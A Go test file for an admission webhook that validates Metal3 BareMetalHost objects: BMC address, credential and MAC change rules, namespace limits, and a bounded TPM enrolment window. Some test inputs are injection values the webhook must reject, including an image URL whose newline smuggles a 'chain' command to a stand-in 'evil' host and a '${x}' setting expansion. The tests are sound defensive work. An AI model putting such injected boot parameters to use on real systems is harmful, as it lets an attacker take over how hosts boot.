package admission

import (
	"context"
	"testing"
	"time"

	metal3v1 "github.com/metal3-io/baremetal-operator/apis/metal3.io/v1alpha1"
	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"

	infrav1 "github.com/yonder-dev/yonder/infrastructure-baremetal/api/v1alpha1"
	"github.com/yonder-dev/yonder/infrastructure-baremetal/reconcilers/baremetalhost"
)

func bmh(mod func(*metal3v1.BareMetalHost)) *metal3v1.BareMetalHost {
	h := &metal3v1.BareMetalHost{ObjectMeta: metav1.ObjectMeta{Name: "h", Namespace: "ns", Labels: map[string]string{baremetalhost.ManagedLabel: "true"}},
		Spec: metal3v1.BareMetalHostSpec{BMC: metal3v1.BMCDetails{Address: "redfish://192.0.2.1/redfish/v1/Systems/1", CredentialsName: "bmc"},
			BootMACAddress: "52:54:00:00:00:01"}}
	if mod != nil {
		mod(h)
	}
	return h
}

// The update rules of managed hosts (the MAC-uniqueness lookup is only made when the MAC or the label
// changes, so none of these cases needs an API server; envtest covers it in reconcilers/metalmachine).
func TestBareMetalHostUpdate(t *testing.T) {
	bad := "http://i/x.iso\nchain http://evil/x"
	claim := func(h *metal3v1.BareMetalHost) {
		h.Spec.ConsumerRef = &corev1.ObjectReference{Kind: "YonderMetalMachine", Name: "m"}
	}
	for _, tc := range []struct {
		name     string
		old, cur func(*metal3v1.BareMetalHost)
		err      string
	}{
		{name: "nothing changes"},
		{name: "bmc address while available", cur: func(h *metal3v1.BareMetalHost) {
			h.Spec.BMC.Address = "redfish://192.0.2.2/x"
			h.Status.Provisioning.State = metal3v1.StateAvailable
		}, err: "spec.bmc.address: Forbidden: BMC address can not be changed if the BMH is not in the Registering state, or if the BMH is not detached"},
		{name: "bmc address while registering", cur: func(h *metal3v1.BareMetalHost) {
			h.Spec.BMC.Address = "redfish://192.0.2.2/x"
			h.Status.Provisioning.State = metal3v1.StateRegistering
		}},
		{name: "bmc address while detached", cur: func(h *metal3v1.BareMetalHost) {
			h.Spec.BMC.Address = "redfish://192.0.2.2/x"
			h.Status.OperationalStatus = metal3v1.OperationalStatusDetached
		}},
		{name: "bmc address first set", old: func(h *metal3v1.BareMetalHost) { h.Spec.BMC.Address = "" }},
		{name: "claimed: bmc address even while registering", old: claim, cur: func(h *metal3v1.BareMetalHost) {
			claim(h)
			h.Spec.BMC.Address = "redfish://192.0.2.2/x"
			h.Status.Provisioning.State = metal3v1.StateRegistering
		}, err: "spec.bmc.address: Forbidden: cannot change while the host is claimed by YonderMetalMachine m"},
		{name: "claimed: credentials", old: claim, cur: func(h *metal3v1.BareMetalHost) { claim(h); h.Spec.BMC.CredentialsName = "x" },
			err: "spec.bmc.credentialsName: Forbidden"},
		{name: "unclaimed: credentials", cur: func(h *metal3v1.BareMetalHost) { h.Spec.BMC.CredentialsName = "x" }},
		{name: "boot MAC", cur: func(h *metal3v1.BareMetalHost) { h.Spec.BootMACAddress = "52:54:00:00:00:02" },
			err: "spec.bootMACAddress: Forbidden: bootMACAddress can not be changed once it is set"},
		{name: "boot MAC in upper case", cur: func(h *metal3v1.BareMetalHost) { h.Spec.BootMACAddress = "52:54:00:0A:0B:0C" }, old: func(h *metal3v1.BareMetalHost) { h.Spec.BootMACAddress = "52:54:00:0a:0b:0c" }},
		{name: "newline in the image URL", cur: func(h *metal3v1.BareMetalHost) {
			h.Spec.Image = &metal3v1.Image{URL: bad, DiskFormat: ptr.To("live-iso")}
		}, err: `spec.image.url: Invalid value: "http://i/x.iso\nchain http://evil/x": InvalidBootParameter: spec.image.url holds control character '\n'`},
		{name: "setting expansion in the checksum type", cur: func(h *metal3v1.BareMetalHost) {
			h.Spec.Image = &metal3v1.Image{URL: "http://i/x.iso", Checksum: "abc", ChecksumType: "${x}"}
		}, err: `InvalidBootParameter: spec.image.checksumType holds "${"`},
		{name: "a stored bad value does not block other updates (a finalizer's removal)",
			old: func(h *metal3v1.BareMetalHost) { h.Spec.Image = &metal3v1.Image{URL: bad} },
			cur: func(h *metal3v1.BareMetalHost) { h.Spec.Image = &metal3v1.Image{URL: bad}; h.Finalizers = nil }},
		{name: "user data from another namespace", cur: func(h *metal3v1.BareMetalHost) {
			h.Spec.UserData = &corev1.SecretReference{Name: "d", Namespace: "other"}
		}, err: "spec.userData.namespace: Forbidden: the Secret must be in the object's namespace ns"},
		{name: "boot address annotation", cur: func(h *metal3v1.BareMetalHost) {
			h.Annotations = map[string]string{baremetalhost.BootAddressAnnotation: "fd00::1"}
		}, err: "must be an IPv4 address"},
		{name: "another controller's host", old: func(h *metal3v1.BareMetalHost) { h.Labels = nil },
			cur: func(h *metal3v1.BareMetalHost) { h.Labels = nil; h.Spec.BootMACAddress = "52:54:00:00:00:09" }},
		{name: "handed to another controller: Metal3's rules still hold on the way out",
			cur: func(h *metal3v1.BareMetalHost) { h.Labels = nil; h.Spec.BootMACAddress = "52:54:00:00:00:09" }, err: "spec.bootMACAddress: Forbidden"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			_, err := BareMetalHost(nil).ValidateUpdate(context.Background(), bmh(tc.old), bmh(tc.cur))
			if tc.err == "" {
				g.Expect(err).NotTo(HaveOccurred())
				return
			}
			g.Expect(err).To(MatchError(ContainSubstring(tc.err)))
		})
	}
}

// Hosts that Yonder does not manage are another controller's to validate; a managed host without a boot
// MAC needs no lookup.
func TestBareMetalHostCreate(t *testing.T) {
	g := NewWithT(t)
	w := BareMetalHost(nil)
	_, err := w.ValidateCreate(context.Background(), bmh(func(h *metal3v1.BareMetalHost) {
		h.Labels = nil
		h.Spec.Image = &metal3v1.Image{URL: "http://i/x y.iso"}
	}))
	g.Expect(err).NotTo(HaveOccurred())
	_, err = w.ValidateCreate(context.Background(), bmh(func(h *metal3v1.BareMetalHost) {
		h.Spec.BootMACAddress = ""
		h.Spec.Image = &metal3v1.Image{URL: "http://i/x y.iso"}
	}))
	g.Expect(err).To(MatchError(ContainSubstring("spec.image.url holds a blank")))
}

// Issue 17: the TPM enrolment window is bounded where it is written: a deadline further than
// infrav1.MaxEnrolmentWindow (plus a little clock skew) ahead, or one that is not RFC 3339, is refused
// when it is opened or moved; an unchanged, closed (past) or removed window, and another controller's
// host, are not checked.
func TestBareMetalHostEnrolmentWindowIsBounded(t *testing.T) {
	now := time.Now()
	window := func(d time.Duration) func(*metal3v1.BareMetalHost) {
		return func(h *metal3v1.BareMetalHost) {
			h.Annotations = map[string]string{baremetalhost.EnrolmentWindowAnnotation: now.Add(d).UTC().Format(time.RFC3339)}
		}
	}
	for _, tc := range []struct {
		name     string
		old, cur func(*metal3v1.BareMetalHost)
		err      string
	}{
		{name: "30 minutes", cur: window(30 * time.Minute)},
		{name: "exactly the maximum", cur: window(infrav1.MaxEnrolmentWindow)},
		{name: "a day and an hour", cur: window(infrav1.MaxEnrolmentWindow + time.Hour),
			err: "metadata.annotations[metal.yonder.dev/tpm-enrolment-window]: Invalid value: \"" + now.Add(25*time.Hour).UTC().Format(time.RFC3339) +
				"\": the TPM enrolment window may stay open for at most 24h0m0s"},
		{name: "a week, moved from a valid one", old: window(time.Hour), cur: window(7 * 24 * time.Hour), err: "may stay open for at most 24h0m0s"},
		{name: "not a deadline", cur: func(h *metal3v1.BareMetalHost) {
			h.Annotations = map[string]string{baremetalhost.EnrolmentWindowAnnotation: "forever"}
		}, err: "the TPM enrolment window must be an RFC 3339 deadline"},
		{name: "closed (in the past)", cur: window(-time.Hour)},
		{name: "unchanged, though written before the webhook", old: window(7 * 24 * time.Hour), cur: window(7 * 24 * time.Hour)},
		{name: "removed", old: window(time.Hour)},
		{name: "another controller's host", old: func(h *metal3v1.BareMetalHost) { h.Labels = nil },
			cur: func(h *metal3v1.BareMetalHost) { h.Labels = nil; window(7 * 24 * time.Hour)(h) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			_, err := BareMetalHost(nil).ValidateUpdate(context.Background(), bmh(tc.old), bmh(tc.cur))
			if tc.err == "" {
				g.Expect(err).NotTo(HaveOccurred())
			} else {
				g.Expect(err).To(MatchError(ContainSubstring(tc.err)))
			}
			if tc.old == nil {
				h := bmh(tc.cur)
				h.Spec.BootMACAddress = "" // no MAC lookup without an API server (envtest: reconcilers/metalmachine)
				_, err = BareMetalHost(nil).ValidateCreate(context.Background(), h)
				if tc.err == "" {
					g.Expect(err).NotTo(HaveOccurred())
				} else {
					g.Expect(err).To(MatchError(ContainSubstring(tc.err)), "on create too")
				}
			}
		})
	}
}
